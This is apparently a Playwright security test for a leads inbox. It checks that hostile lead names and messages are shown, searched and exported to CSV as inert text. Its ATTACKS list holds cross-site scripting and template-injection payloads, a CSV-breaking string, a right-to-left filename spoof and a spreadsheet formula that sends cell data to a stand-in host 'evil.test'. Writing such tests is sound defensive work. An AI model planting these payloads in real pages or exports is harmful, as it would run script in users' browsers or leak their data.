// Hostile input is rendered as text in the list, in a lead, in a search and in the file (format: export-leads.test.ts).
import { readFile } from 'node:fs/promises'
import { expect } from '@playwright/test'
import { find, newMark, openInbox, rows, search, storeLeads, test } from './inbox-page.ts'

/** Would set `ran` or leave the page if any of it were interpreted. */
const ATTACKS = [
  '<script>window.ran=1</script>',
  '<img src=x onerror="window.ran=1">',
  '</title></style></textarea><script>window.ran=1</script>',
  'javascript:window.ran=1',
  '{{constructor.constructor("window.ran=1")()}}',
  '=HYPERLINK("http://evil.test/?"&A1,"Invoice")',
  'a","b"\r\n"c',
  '\u202egnp.exe',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍'.repeat(20),
]

/** Only a message has several. */
const oneLine = (text: string) => text.replaceAll(/[\r\n]/g, ' ')

test('hostile leads are shown, searched and exported as text', async ({ page, ruth }) => {
  const mark = newMark()
  const leads = ATTACKS.map((attack, index) => ({
    name: `${oneLine(attack)} ${index}`.slice(0, 200),
    company: oneLine(attack).slice(0, 200),
    message: `${attack} ${mark} and more words`,
    secondsAgo: index,
  }))
  const ids = await storeLeads(leads)
  await openInbox(page, ruth)
  await find(page, mark, leads.length)
  expect(await rows(page).locator('b').allTextContents()).toEqual(leads.map(({ name }) => name))

  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export this list' }).click()
  const csv = await readFile(await (await download).path(), 'utf8')
  for (const id of ids) expect(csv).toContain(`"${id}"\r\n`)
  await expect(page.getByText(`${leads.length} messages exported.`)).toBeVisible()

  for (const [index, id] of ids.entries()) {
    await page.goto(`/inbox#${id}`)
    await expect.poll(() => page.locator('#who').textContent()).toBe(leads[index]?.name)
  }
  for (const attack of ATTACKS) await search(page, `${mark} ${oneLine(attack).slice(0, 100)}`)
  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
  await expect(page).toHaveURL(/\/inbox#/)
})
